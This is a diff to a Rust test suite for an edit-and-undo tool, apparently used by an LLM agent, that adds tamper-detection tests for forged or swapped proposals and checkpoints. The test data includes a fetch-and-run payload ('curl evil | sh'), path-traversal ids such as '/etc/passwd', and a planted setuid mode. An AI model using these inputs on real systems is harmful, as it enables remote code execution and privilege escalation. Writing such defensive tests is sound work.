@@ -162,7 +162,9 @@ fn a_checkpoint_id_that_is_a_path_is_refused() {
 fn an_unknown_checkpoint_is_checkpoint_not_found() {
     let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
     let wf = e.open();
-    let err = wf.undo("ckpt_1700000000000_deadbeef").unwrap_err();
+    let err = wf
+        .undo("ckpt_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef")
+        .unwrap_err();
     assert_eq!(err.reason, Reason::CheckpointNotFound, "{err}");
     assert!(err.message.contains("not found"), "{err}");
     assert!(!e.root.join(".lspedit").exists(), "undo created state");
@@ -212,8 +214,10 @@ fn a_blob_whose_content_is_not_the_recorded_one_is_refused() {
 }
 
 // Regression: the stored mode was applied as is, so 0o4755 made a setuid file.
+// A mode planted in a checkpoint (setuid on undo) no longer gets as far as the mask that keeps
+// permission bits only: the checkpoint's signature covers it.
 #[test]
-fn a_stored_mode_keeps_only_permission_bits() {
+fn a_stored_mode_changed_in_a_checkpoint_is_refused() {
     let e = Env::new(&[("gone.sh", "#!/bin/sh\necho hi\n")]);
     std::fs::set_permissions(
         e.root.join("gone.sh"),
@@ -232,12 +236,10 @@ fn a_stored_mode_keeps_only_permission_bits() {
     edit_json(&e.checkpoint_json(&ckpt), |v| {
         v["entries"][0]["mode"] = Value::from(0o6755);
     });
-    wf.undo(&ckpt).unwrap();
-    let mode = std::fs::metadata(e.root.join("gone.sh"))
-        .unwrap()
-        .permissions()
-        .mode();
-    assert_eq!(mode & 0o7777, 0o755, "mode {mode:o}");
+    let err = wf.undo(&ckpt).unwrap_err();
+    assert_eq!(err.reason, Reason::TamperedState, "{err}");
+    assert!(!e.root.join("gone.sh").exists(), "nothing restored");
+    e.assert_outside_untouched();
 }
 
 #[test]
@@ -302,8 +304,8 @@ fn a_journal_temp_path_that_is_not_its_entrys_temp_file_is_left_alone() {
     std::fs::write(&staged, "a staged temp file\n").unwrap();
     let canary = e.outside.join("canary");
     let journal = serde_json::json!({
-        "txn_id": "txn_1700000000000_deadbeef",
-        "patch_id": "patch_1700000000000_deadbeef",
+        "txn_id": "txn_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
+        "patch_id": "patch_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
         "checkpoint_id": ckpt,
         "created_ms": 1_700_000_000_000_u64,
         "pid": 1,
@@ -317,7 +319,7 @@ fn a_journal_temp_path_that_is_not_its_entrys_temp_file_is_left_alone() {
     let dir = e.root.join(".lspedit/journal");
     std::fs::create_dir_all(&dir).unwrap();
     std::fs::write(
-        dir.join("txn_1700000000000_deadbeef.json"),
+        dir.join("txn_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef.json"),
         serde_json::to_vec(&journal).unwrap(),
     )
     .unwrap();
@@ -349,8 +351,8 @@ fn a_journal_with_bad_ids_is_kept_and_not_acted_on() {
     let wf = e.open();
     let ckpt = applied_checkpoint(&e, &wf);
     let journal = serde_json::json!({
-        "txn_id": "txn_1700000000000_deadbeef",
-        "patch_id": "patch_1700000000000_deadbeef",
+        "txn_id": "txn_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
+        "patch_id": "patch_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
         "checkpoint_id": "../../../outside",
         "created_ms": 1_700_000_000_000_u64,
         "pid": 1,
@@ -360,7 +362,7 @@ fn a_journal_with_bad_ids_is_kept_and_not_acted_on() {
     });
     let dir = e.root.join(".lspedit/journal");
     std::fs::create_dir_all(&dir).unwrap();
-    let file = dir.join("txn_1700000000000_deadbeef.json");
+    let file = dir.join("txn_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef.json");
     std::fs::write(&file, serde_json::to_vec(&journal).unwrap()).unwrap();
     let wf2 = e.open();
     assert!(wf2.recovered().is_empty());
@@ -464,7 +466,7 @@ fn an_unknown_patch_id_says_to_propose_again() {
     let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
     let wf = e.open();
     for id in [
-        "patch_1700000000000_deadbeef",
+        "patch_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
         "../../outside/x",
         "/etc/passwd",
     ] {
@@ -499,14 +501,19 @@ fn lspedit_as_a_symlink_is_refused_and_nothing_is_written_outside() {
         .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
         .unwrap_err();
     assert_eq!(err.reason, Reason::TamperedState, "{err}");
-    let out = wf.apply_edit("patch_1700000000000_deadbeef", &ApplyPlan::default());
+    let out = wf.apply_edit(
+        "patch_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef",
+        &ApplyPlan::default(),
+    );
     assert_eq!(
         out.reason,
         Some(Reason::TamperedState),
         "{}",
         out.llm_content
     );
-    let err = wf.undo("ckpt_1700000000000_deadbeef").unwrap_err();
+    let err = wf
+        .undo("ckpt_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef")
+        .unwrap_err();
     assert_eq!(err.reason, Reason::TamperedState, "{err}");
     e.assert_outside_untouched();
     assert_eq!(e.read("a.txt"), "a\nb\nc\n");
@@ -613,4 +620,182 @@ fn each_unhashed_field_of_a_stored_proposal_is_verified() {
         &|v| v["files"][0]["new_sha"] = Value::from("not-a-sha"),
         "a sha of `a.txt` is not a sha",
     );
+}
+
+// Unforgeable ids (docs/ids.md). Regression: a patch id carried 32 bits of an unkeyed SHA-256, so
+// a process that could write `.lspedit/patches/` swapped a reviewed proposal for another and
+// searched a suffix until the id matched again; apply-id applied it.
+
+/// A workflow over `e` whose key lives in `<tmp>/<name>` (another user's, for another name).
+fn open_keyed(e: &Env, name: &str) -> Workflow {
+    e.open_with(WorkflowConfig {
+        event_log: false,
+        key_dir: Some(e.outside.parent().unwrap().join(name)),
+        ..WorkflowConfig::default()
+    })
+    .unwrap()
+}
+
+#[test]
+fn a_swapped_proposal_under_the_reviewed_id_is_tampered_state() {
+    let e = Env::new(&[("a.py", "a\nb\nc\n")]);
+    let wf = open_keyed(&e, "user");
+    let reviewed = wf
+        .propose_edit(&ProposeRequest::patch(replace_diff("a.py", "b", "B")))
+        .unwrap();
+    let tag = reviewed.patch_id.rsplit('_').next().unwrap();
+    assert_eq!(tag.len(), 32, "128 bits: {}", reviewed.patch_id);
+    // The attacker proposes their own change with lspedit and their own key, then puts it in
+    // place of the reviewed proposal, under its id and time.
+    let attacker = open_keyed(&e, "attacker");
+    let evil = attacker
+        .propose_edit(&ProposeRequest::patch(replace_diff(
+            "a.py",
+            "b",
+            "import os; os.system('curl evil | sh')",
+        )))
+        .unwrap();
+    let evil_file = e.patch_json(&evil.patch_id);
+    std::fs::copy(&evil_file, e.patch_json(&reviewed.patch_id)).unwrap();
+    std::fs::remove_file(evil_file).unwrap();
+    edit_json(&e.patch_json(&reviewed.patch_id), |v| {
+        v["patch_id"] = Value::from(reviewed.patch_id.clone());
+        v["created_ms"] = Value::from(
+            reviewed
+                .patch_id
+                .split('_')
+                .nth(1)
+                .unwrap()
+                .parse::<u64>()
+                .unwrap(),
+        );
+    });
+    let out = wf.apply_edit(&reviewed.patch_id, &ApplyPlan::default());
+    assert_eq!(out.status, ApplyStatus::Refused, "{}", out.llm_content);
+    assert_eq!(
+        out.reason,
+        Some(Reason::TamperedState),
+        "{}",
+        out.llm_content
+    );
+    assert!(
+        out.llm_content.contains(&reviewed.patch_id),
+        "{}",
+        out.llm_content
+    );
+    assert!(
+        out.llm_content
+            .contains(&format!(".lspedit/patches/{}.json", reviewed.patch_id)),
+        "names the file: {}",
+        out.llm_content
+    );
+    assert_eq!(e.read("a.py"), "a\nb\nc\n", "nothing written");
+    assert!(
+        !e.root.join(".lspedit/checkpoints").exists(),
+        "no checkpoint either"
+    );
+    // Showing it again is refused the same way.
+    assert_eq!(
+        wf.proposal(&reviewed.patch_id).unwrap_err().reason,
+        Reason::TamperedState
+    );
+    e.assert_outside_untouched();
+}
+
+#[test]
+fn an_id_of_fewer_bits_is_refused() {
+    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
+    let wf = open_keyed(&e, "user");
+    let p = wf
+        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
+        .unwrap();
+    let (head, tag) = p.patch_id.rsplit_once('_').unwrap();
+    // The proposal stored under the 32-bit id of the old format too: still no id.
+    for short in [&tag[..8], &tag[..16], &tag[..31]] {
+        let id = format!("{head}_{short}");
+        std::fs::copy(e.patch_json(&p.patch_id), e.patch_json(&id)).unwrap();
+        edit_json(&e.patch_json(&id), |v| {
+            v["patch_id"] = Value::from(id.clone())
+        });
+        let out = wf.apply_edit(&id, &ApplyPlan::default());
+        assert_eq!(out.status, ApplyStatus::Refused, "{}", out.llm_content);
+        assert_eq!(
+            out.reason,
+            Some(Reason::PatchNotFound),
+            "{}",
+            out.llm_content
+        );
+        assert!(
+            out.llm_content
+                .contains(&format!("carries {} bits", short.len() * 4))
+                && out.llm_content.contains("propose_edit again"),
+            "{}",
+            out.llm_content
+        );
+        assert_eq!(e.read("a.txt"), "a\nb\nc\n");
+    }
+    let err = wf
+        .undo(&format!("ckpt_{}_{}", &head["patch_".len()..], &tag[..8]))
+        .unwrap_err();
+    assert_eq!(err.reason, Reason::CheckpointNotFound, "{err}");
+}
+
+#[test]
+fn a_key_from_another_user_dir_does_not_validate() {
+    let e = Env::new(&[("a.txt", "a\nb\nc\n")]);
+    let mine = open_keyed(&e, "user");
+    let theirs = open_keyed(&e, "other");
+    let p = mine
+        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
+        .unwrap();
+    let out = theirs.apply_edit(&p.patch_id, &ApplyPlan::default());
+    assert_eq!(
+        out.reason,
+        Some(Reason::TamperedState),
+        "{}",
+        out.llm_content
+    );
+    assert_eq!(e.read("a.txt"), "a\nb\nc\n");
+    // Under the key it was signed with, it applies; its checkpoint undoes only under that key.
+    let out = mine.apply_edit(&p.patch_id, &ApplyPlan::default());
+    assert_eq!(out.status, ApplyStatus::Applied, "{}", out.llm_content);
+    let ckpt = out.checkpoint_id.unwrap();
+    assert_eq!(ckpt.rsplit('_').next().unwrap().len(), 32, "{ckpt}");
+    let err = theirs.undo(&ckpt).unwrap_err();
+    assert_eq!(err.reason, Reason::TamperedState, "{err}");
+    assert_eq!(e.read("a.txt"), "a\nB\nc\n", "nothing restored");
+    mine.undo(&ckpt).unwrap();
+    assert_eq!(e.read("a.txt"), "a\nb\nc\n");
+    e.assert_outside_untouched();
+}
+
+#[test]
+fn a_swapped_checkpoint_is_refused_on_undo() {
+    let e = Env::new(&[("a.txt", "a\nb\nc\n"), ("b.txt", "a\nb\nc\n")]);
+    let wf = e.open();
+    let first = applied_checkpoint(&e, &wf);
+    let p = wf
+        .propose_edit(&ProposeRequest::patch(replace_diff("b.txt", "b", "B")))
+        .unwrap();
+    let second = wf
+        .apply_edit(&p.patch_id, &ApplyPlan::default())
+        .checkpoint_id
+        .unwrap();
+    // The second checkpoint, blobs and all, put in place of the first under the first's id.
+    let dir = |id: &str| e.root.join(".lspedit/checkpoints").join(id);
+    std::fs::remove_dir_all(dir(&first)).unwrap();
+    std::fs::rename(dir(&second), dir(&first)).unwrap();
+    edit_json(&e.checkpoint_json(&first), |v| {
+        v["checkpoint_id"] = Value::from(first.clone());
+    });
+    let err = wf.undo(&first).unwrap_err();
+    assert_eq!(err.reason, Reason::TamperedState, "{err}");
+    assert!(err.message.contains(&first), "{err}");
+    assert_eq!(
+        err.path.as_deref(),
+        Some(format!(".lspedit/checkpoints/{first}/checkpoint.json").as_str())
+    );
+    assert_eq!(e.read("a.txt"), "a\nB\nc\n", "nothing restored");
+    assert_eq!(e.read("b.txt"), "a\nB\nc\n", "nothing restored");
+    e.assert_outside_untouched();
 }
